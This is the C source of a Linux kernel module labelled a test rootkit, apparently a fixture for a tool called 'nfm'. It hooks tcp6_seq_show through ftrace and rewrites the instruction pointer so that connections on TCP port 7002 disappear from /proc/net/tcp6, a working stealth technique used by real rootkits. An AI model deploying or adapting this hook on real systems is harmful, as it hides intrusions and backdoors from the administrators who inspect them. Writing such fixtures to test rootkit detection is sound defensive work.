// Test rootkit: hides TCP port 7002 from /proc/net/tcp6 by hooking tcp6_seq_show
// with ftrace (ftrace_set_filter_ip + register_ftrace_function, the handler moving
// the instruction pointer to its own filter), as ftrace-based rootkits do.
#include <linux/ftrace.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/version.h>
#include <net/sock.h>

#include "nfm_rk.h"

static unsigned long target;
static int (*original_show)(struct seq_file*, void*);

static int hooked_show(struct seq_file* seq, void* v) {
  int ret;
  if (v != SEQ_START_TOKEN && ((struct sock*)v)->sk_num == 7002) return 0;
  ret = original_show(seq, v);
  // Not a tail call: the handler tells our call of the original from the kernel's by
  // the return address, which a jump would not leave.
  barrier();
  return ret;
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
static void notrace handler(unsigned long ip, unsigned long parent_ip, struct ftrace_ops* op,
                            struct ftrace_regs* fregs) {
  struct pt_regs* regs = ftrace_get_regs(fregs);
#else
static void notrace handler(unsigned long ip, unsigned long parent_ip, struct ftrace_ops* op,
                            struct pt_regs* regs) {
#endif
  // Our own call of the original comes back through here: let it through.
  if (!within_module(parent_ip, THIS_MODULE)) regs->ip = (unsigned long)hooked_show;
}

static struct ftrace_ops ops = {
    .func = handler,
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
    .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
#else
    .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION_SAFE | FTRACE_OPS_FL_IPMODIFY,
#endif
};

static int __init hook_init(void) {
  int err;
  target = nfm_rk_lookup("tcp6_seq_show");
  if (!target) return -ENOENT;
  original_show = (void*)target;
  err = ftrace_set_filter_ip(&ops, target, 0, 0);
  if (err) return err;
  err = register_ftrace_function(&ops);
  if (err) {
    ftrace_set_filter_ip(&ops, target, 1, 0);
    return err;
  }
  pr_info("nfm_rk_ftrace: tcp6_seq_show hooked\n");
  return 0;
}

static void __exit hook_exit(void) {
  unregister_ftrace_function(&ops);
  ftrace_set_filter_ip(&ops, target, 1, 0);
}

module_init(hook_init);
module_exit(hook_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: ftrace function hook");
